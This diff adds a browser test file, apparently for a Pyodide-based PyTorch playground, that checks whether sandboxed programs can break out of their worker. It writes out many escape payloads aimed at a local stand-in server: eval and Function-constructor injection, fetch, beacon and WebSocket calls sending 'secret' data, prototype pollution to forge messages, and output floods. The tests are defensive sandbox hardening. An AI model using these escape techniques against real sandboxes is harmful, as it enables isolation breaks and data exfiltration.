@@ -1,0 +1,405 @@
+/**
+ * A program that someone shares, as an attacker would write it, in Chromium and in Firefox: it reaches
+ * nothing but its own worker, and the page goes on. What gets out would be seen by a second server.
+ */
+import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import { after, before, describe, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import puppeteer from 'puppeteer-core';
+import { answer } from '../../web/tools/serve.mjs';
+import { launchBrowser, linkOf, servePage } from './support.mjs';
+
+const { REACHABLE } = await import('../../build/runtime/node.mjs');
+
+/** Another site: it lets anyone in, and notes who came. */
+async function openElsewhere() {
+  const visits = [];
+  const server = createServer((request, response) => {
+    visits.push(request.url);
+    response.writeHead(200, {
+      'Access-Control-Allow-Origin': '*',
+      'Content-Type': 'text/javascript',
+    });
+    response.end('export default 1');
+  });
+  server.on('upgrade', (request, socket) => {
+    visits.push(request.url);
+    socket.destroy();
+  });
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${server.address().port}/`,
+    visits,
+    close() {
+      server.close();
+      server.closeAllConnections();
+    },
+  };
+}
+
+/** The two browsers; their pages are used through what Playwright's and Puppeteer's have alike. */
+const BROWSERS = {
+  Chromium: launchBrowser,
+  Firefox: () =>
+    puppeteer.launch({
+      browser: 'firefox',
+      executablePath: process.env.FIREFOX ?? '/usr/bin/firefox-esr',
+      headless: true,
+    }),
+};
+
+/** A tab with the page. */
+class Tab {
+  runs = 0;
+
+  static async open(browser, url) {
+    const tab = new Tab();
+    tab.page = await browser.newPage();
+    await tab.page.goto(url);
+    // The browsers' drivers would report what goes wrong in workers too.
+    await tab.page.evaluate(() => {
+      window.problems = [];
+      for (const kind of ['error', 'unhandledrejection'])
+        addEventListener(kind, (event) => problems.push(String(event.reason ?? event.message)));
+    });
+    await tab.until(() => document.querySelector('.app')?.dataset.phase === 'ready');
+    return tab;
+  }
+
+  async until(condition, given) {
+    const deadline = Date.now() + 120_000;
+    while (!(await this.page.evaluate(condition, given))) {
+      if (Date.now() > deadline) throw new Error(`never so: ${condition}, ${given}`);
+      await new Promise((resolve) => setTimeout(resolve, 50));
+    }
+  }
+
+  /** Runs a program to its end; gives what is seen then. */
+  async run(program) {
+    const mark = `# run ${++this.runs} of this tab`;
+    const hash = linkOf(`${mark}\n${program}`);
+    await this.page.evaluate((link) => void (location.hash = link), hash);
+    await this.until(
+      (text) =>
+        document.querySelector('.view-lines')?.textContent.replaceAll('\u00a0', ' ').includes(text),
+      mark,
+    );
+    await this.until(() => document.querySelector('.app').dataset.phase === 'ready');
+    await this.page.evaluate(() =>
+      [...document.querySelectorAll('button')]
+        .find(({ textContent }) => /^\s*Run/.test(textContent))
+        .click(),
+    );
+    await this.until(
+      () =>
+        document.querySelector('.app').dataset.phase === 'ready' &&
+        /Done|Ended|The run/.test(document.querySelector('.status').textContent),
+    );
+    return this.page.evaluate(() => {
+      const text = (selector) =>
+        [...document.querySelectorAll(selector)].map(({ textContent }) => textContent).join('');
+      return {
+        stdout: text('.output .stdout'),
+        stderr: text('.output .stderr'),
+        status: text('.status'),
+      };
+    });
+  }
+
+  /** The next program runs as if nothing had been. */
+  async goesOn() {
+    const { stdout } = await this.run('import torch\nprint(torch.ones(2) + 1)\n');
+    assert.equal(stdout, 'tensor([2., 2.])\n');
+    assert.deepEqual(await this.page.evaluate(() => window.problems), []);
+  }
+}
+
+/** What programs start with: `attempt` goes on whatever happens. */
+const prelude = (elsewhere) => `
+import js, pyodide_js, sys
+from pyodide.ffi import create_proxy, to_js
+URL = ${JSON.stringify(elsewhere)}
+def attempt(act):
+    try:
+        act()
+    except BaseException as problem:
+        print(type(problem).__name__, str(problem)[:200])
+    else:
+        print("no error")
+def own(**parts):
+    return to_js(parts, dict_converter=js.Object.fromEntries)
+`;
+
+/** Ways out, by name; each is the body of a program. */
+const WAYS_OUT = {
+  'a text as a timer': `
+attempt(lambda: js.setTimeout(f"import('{URL}timer.js')", 0))
+attempt(lambda: js.setInterval(f"import('{URL}interval.js')", 0))
+attempt(lambda: js.setTimeout(js.String.new(f"import('{URL}string-object.js')"), 0))
+attempt(lambda: js.setTimeout(own(toString=create_proxy(lambda *_: f"import('{URL}to-string.js')")), 0))`,
+  'code from text': `
+code = f"import('{URL}code.js')"
+from pyodide.code import run_js
+attempt(lambda: run_js(code))
+attempt(lambda: js.eval(code))
+attempt(lambda: js.Function.new(code)())
+attempt(lambda: js.Object.constructor.new(code)())
+attempt(lambda: js.Reflect.construct(js.Object.constructor, to_js([code]))())
+for maker in (pyodide_js.loadPackage, pyodide_js.runPythonAsync, js.Array.prototype.map, js.eval):
+    attempt(lambda: maker.constructor.new(code)())
+    attempt(lambda: js.Object.getPrototypeOf(maker).constructor.new(code)())
+    attempt(lambda: js.Object.getPrototypeOf(js.Object.getPrototypeOf(maker).constructor).new(code)())
+attempt(lambda: js.ShadowRealm.new().evaluate(code))
+`,
+  'a font': `attempt(lambda: js.FontFace.new("x", f"url({URL}font?secret=1)").load())
+attempt(lambda: js.fonts.add(1))`,
+  'what fetches': `
+attempt(lambda: js.fetch(URL + "fetch"))
+attempt(lambda: js.XMLHttpRequest.new().open("GET", URL + "xhr", False))
+attempt(lambda: js.EventSource.new(URL + "events"))
+attempt(lambda: js.WebSocket.new(URL.replace("http", "ws") + "socket"))
+attempt(lambda: js.WebSocketStream.new(URL.replace("http", "ws") + "stream"))
+attempt(lambda: js.WebTransport.new(URL.replace("http:", "https:")))
+attempt(lambda: js.RTCPeerConnection.new())
+attempt(lambda: js.importScripts(URL + "scripts.js"))
+attempt(lambda: js.navigator.sendBeacon(URL + "beacon", "secret"))
+attempt(lambda: js.Image.new())
+attempt(lambda: js.createImageBitmap(URL))
+attempt(lambda: js.Request.new(URL))
+attempt(lambda: js.WebAssembly.compileStreaming(js.fetch(URL + "wasm")))
+attempt(lambda: js.navigator.serviceWorker.register(URL))
+attempt(lambda: js.location.assign(URL + "location"))`,
+  'other workers and pages': `
+attempt(lambda: js.Worker.new(URL + "worker.js"))
+attempt(lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([f"import '{URL}blob.js'"])))))
+attempt(lambda: js.SharedWorker.new(URL + "shared.js"))
+attempt(lambda: js.BroadcastChannel.new("x").postMessage(1))
+attempt(lambda: js.MessageChannel.new())
+attempt(lambda: js.navigator.locks.request("x", create_proxy(lambda _: None)))
+attempt(lambda: js.Notification.new("x"))
+attempt(lambda: js.close())`,
+  'what the browser stores': `
+attempt(lambda: js.caches.open("tensorglass"))
+attempt(lambda: js.indexedDB.open("x"))
+attempt(lambda: js.navigator.storage.getDirectory())
+attempt(lambda: js.navigator.storageBuckets.open("x"))
+attempt(lambda: js.cookieStore.set("x", "1"))
+attempt(lambda: js.localStorage.setItem("x", "1"))
+attempt(lambda: js.FileReaderSync.new())
+attempt(lambda: pyodide_js.mountNativeFS("/x", js.navigator))
+attempt(lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, own(), "/tmp"))`,
+  "Python's own ways": `
+import pyodide.http, urllib.request, socket, asyncio
+attempt(lambda: pyodide.http.open_url(URL + "open-url"))
+attempt(lambda: pyodide.http.pyfetch(URL + "pyfetch").send(None))
+attempt(lambda: urllib.request.urlopen(URL + "urllib", timeout=1).read())
+attempt(lambda: socket.create_connection(("127.0.0.1", int(URL.split(":")[2].strip("/"))), 1).send(b"GET /socket HTTP/1.0\\r\\n\\r\\n"))
+attempt(lambda: pyodide_js.loadPackage(URL + "package.whl"))
+attempt(lambda: pyodide_js.loadPackage("micropip"))
+`,
+};
+
+/** The same by the insides of Pyodide; some of them break down for want of what was taken. */
+const INSIDES = {
+  "C's way to run a script": `
+import ctypes
+ctypes.CDLL(None).emscripten_run_script(f"import('{URL}run-script.js')".encode())`,
+  'a file that is fetched when it is read': `
+pyodide_js.FS.createLazyFile("/", "lazy", URL + "lazy-file", True, False)
+open("/lazy").read()`,
+  'a file that is fetched before it is read': `
+pyodide_js.FS.createPreloadedFile("/", "early", URL + "preloaded", True, False)`,
+  'a library that is fetched': `
+attempt(lambda: pyodide_js._module.loadDynamicLibrary(URL + "library.so"))
+attempt(lambda: pyodide_js._module.readAsync(URL + "read"))`,
+  'all that sounds like loading': `
+module = pyodide_js._module
+for name in dir(module):
+    if any(word in name.lower() for word in ("fetch", "load", "wget", "read", "script", "websocket", "worker", "url", "xhr", "import")):
+        member = getattr(module, name, None)
+        if callable(member):
+            attempt(lambda: member(URL + "module-" + name))
+api = pyodide_js._api
+for name in dir(api):
+    if any(word in name.lower() for word in ("fetch", "load", "url", "import", "script", "package")):
+        member = getattr(api, name, None)
+        if callable(member):
+            attempt(lambda: member(URL + "api-" + name))`,
+};
+
+/** What a program may try on the line between worker and page; each ends, and the page is as it was. */
+const FORGERIES = {
+  'messages of its own': `
+attempt(lambda: js.postMessage(own(kind="steps", run="1", steps=to_js([None, 5]))))
+attempt(lambda: js.self.postMessage(own(kind="done", run="1", result=own(exitCode=0))))
+attempt(lambda: js.onmessage(own(data=own(kind="boot"))))
+attempt(lambda: setattr(js, "onmessage", create_proxy(lambda event: None)))
+attempt(lambda: js.addEventListener("message", create_proxy(print)))
+attempt(lambda: js.dispatchEvent(js.MessageEvent.new("message")))
+attempt(lambda: js.globalThis.postMessage(1))`,
+  'prototypes of its own': `
+found = []
+def listen(this, *given):
+    found.extend([this, *given])
+spy = create_proxy(listen, capture_this=True)
+for owner, names in (
+    (js.Array.prototype, ("push", "splice", "map", "slice")),
+    (js.Object.prototype, ("then", "kind", "run", "steps", "text", "toJSON")),
+    (js.Promise.prototype, ("then", "constructor")),
+    (js.Function.prototype, ("call", "apply", "bind")),
+    (js.JSON, ("parse", "stringify")),
+    (js.Map.prototype, ("get", "set")),
+    (js.Reflect, ("apply", "ownKeys")),
+    (js.String.prototype, ("slice",)),
+    (js.TextDecoder.prototype, ("decode",)),
+    (js.performance, ("now",)),
+    (js, ("setTimeout", "performance", "JSON", "Promise", "eval")),
+):
+    for name in names:
+        attempt(lambda: setattr(owner, name, spy))
+        attempt(lambda: js.Object.defineProperty(owner, name, own(value=spy)))
+        attempt(lambda: js.Object.defineProperty(owner, name, own(get=spy, set=spy)))
+attempt(lambda: js.Object.setPrototypeOf(js.Array.prototype, own(x=1)))
+import torch
+x = torch.ones(2)
+print("forged", [thing for thing in found if hasattr(thing, "postMessage")])`,
+  'traps in what it hands over': `
+class Trap:
+    def __getattribute__(self, name):
+        raise SystemError("a trap")
+    __str__ = __repr__ = __index__ = __len__ = lambda self: 1 / 0
+x = Trap()
+y = {Trap: [x]}
+deep = []
+for _ in range(100_000):
+    deep = [deep]
+z = own(valueOf=create_proxy(lambda *_: 1 / 0), toString=create_proxy(lambda *_: 1 / 0))
+attempt(lambda: js.structuredClone(z))
+sys.stdout.write("\\ud800 \\0 \\x1b[31m" + "x" * 100_000 + "\\n")`,
+};
+
+/** Programs that get at their own recorder; the page takes none of what they make up. */
+const RECORDER = `
+import gc
+hooks = next(thing._hooks for thing in gc.get_objects() if type(thing).__name__ == "Recorder")
+step = hooks.step
+`;
+const MADE_UP_STEPS = {
+  'a line that is none': `step("x", "line", 1, "[]", None)`,
+  'names that are none': `step(1, "line", 1, '{"a": 5}', None)`,
+  'a name on a tensor that is not there': `step(1, "line", 1, '[{"frame": "<module>", "name": "x", "tensor": 987654}]', None)`,
+  'an unknown event': `step(1, "explosion", 1, "[]", None)`,
+  'an error that is none': `step(1, "line", 1, "[]", '{"type": {}}')`,
+};
+
+for (const [name, launch] of Object.entries(BROWSERS))
+  describe(name, () => {
+    let server, elsewhere, browser, tab;
+    before(async () => {
+      [server, elsewhere] = await Promise.all([servePage(), openElsewhere()]);
+      browser = await launch();
+      tab = await Tab.open(browser, server.url);
+    });
+    after(async () => {
+      await browser?.close();
+      await server?.close();
+      elsewhere?.close();
+    });
+
+    for (const [what, attempts] of Object.entries(WAYS_OUT))
+      test(`${what} leads nowhere`, async () => {
+        const { stdout, status } = await tab.run(prelude(elsewhere.url) + attempts);
+        assert.match(status, /Done/);
+        assert.match(stdout, /\w/);
+        await tab.goesOn();
+        assert.deepEqual(elsewhere.visits, []);
+      });
+
+    for (const [what, attempts] of Object.entries(INSIDES))
+      test(`${what} leads nowhere`, async () => {
+        const { status } = await tab.run(prelude(elsewhere.url) + attempts);
+        assert.match(status, /Done|Ended with/);
+        await tab.goesOn();
+        assert.deepEqual(elsewhere.visits, []);
+      });
+
+    for (const [what, attempts] of Object.entries(FORGERIES))
+      test(`${what}: the page is as it was`, async () => {
+        const { stdout, status } = await tab.run(prelude(elsewhere.url) + attempts);
+        assert.match(status, /Done/);
+        assert.doesNotMatch(stdout, /forged \[[^\]]/);
+        await tab.goesOn();
+        assert.deepEqual(elsewhere.visits, []);
+      });
+
+    for (const [what, call] of Object.entries(MADE_UP_STEPS))
+      test(`a step of the program's own, with ${what}, ends the run`, async () => {
+        const { status } = await tab.run(`${RECORDER}${call}\n`);
+        assert.match(status, /The run ended: the program broke its session/);
+        await tab.goesOn();
+      });
+
+    test('steps without end are refused, and the page stays with the reader', async () => {
+      const { status } = await tab.run(
+        `${RECORDER}for _ in range(100_000):\n    step(1, "line", 1, "[]", None)\n`,
+      );
+      assert.match(status, /The run ended: the program broke its session/);
+      await tab.goesOn();
+    });
+
+    for (const stream of ['stdout', 'stderr'])
+      test(`a million messages on ${stream} end the program, and the page stays with the reader`, async () => {
+        const { status } = await tab.run(
+          `import sys\nfor n in range(1_000_000):\n    sys.${stream}.write("again\\n")\n    sys.${stream}.flush()\n`,
+        );
+        assert.match(status, /Ended with OutputLimit/);
+        const shown = await tab.page.evaluate(
+          () => document.querySelector('.output').textContent.length,
+        );
+        assert.ok(shown < 1_100_000, `${shown} characters`);
+        await tab.goesOn();
+      });
+
+    test('an error of a hundred million characters is cut', async () => {
+      const { status } = await tab.run('raise ValueError("x" * 10**8)');
+      assert.match(status, /Ended with ValueError/);
+      await tab.goesOn();
+    });
+
+    test('the global of a program has what the list says, and no more', async () => {
+      const pristine = await tab.page.evaluate(pristineNames);
+      assert.ok(pristine.includes('fetch') && pristine.includes('navigator'), 'a real worker');
+      const { stdout } = await tab.run(`
+import js, json
+from pyodide.ffi import jsnull
+chain, owner = [], js.globalThis
+while owner is not jsnull:
+    chain += [str(key) for key in js.Object.getOwnPropertyNames(owner)]
+    owner = js.Object.getPrototypeOf(owner)
+tried = json.loads(${JSON.stringify(JSON.stringify(pristine))})
+there = [name for name in tried if hasattr(js, name)]
+print(json.dumps([chain, there]))
+`);
+      const [chain, there] = JSON.parse(stdout);
+      const language = new Set([...REACHABLE, ...Object.getOwnPropertyNames(Object.prototype)]);
+      // Numbers that Chromium does not let go of.
+      const CONSTANTS = ['TEMPORARY', 'PERSISTENT'];
+      const unlisted = (names) => names.filter((n) => !language.has(n) && !CONSTANTS.includes(n));
+      assert.deepEqual(unlisted(chain), []);
+      assert.deepEqual(unlisted(there), []);
+    });
+  });
+
+/** In the page: the names on the global of a worker as the browser makes it, and on its navigator. */
+function pristineNames() {
+  const text = `
+    const names = new Set();
+    for (let o = globalThis; o; o = Object.getPrototypeOf(o))
+      for (const name of Object.getOwnPropertyNames(o)) names.add(name);
+    postMessage([...names]);`;
+  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), {
+    type: 'module',
+  });
+  return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
+}
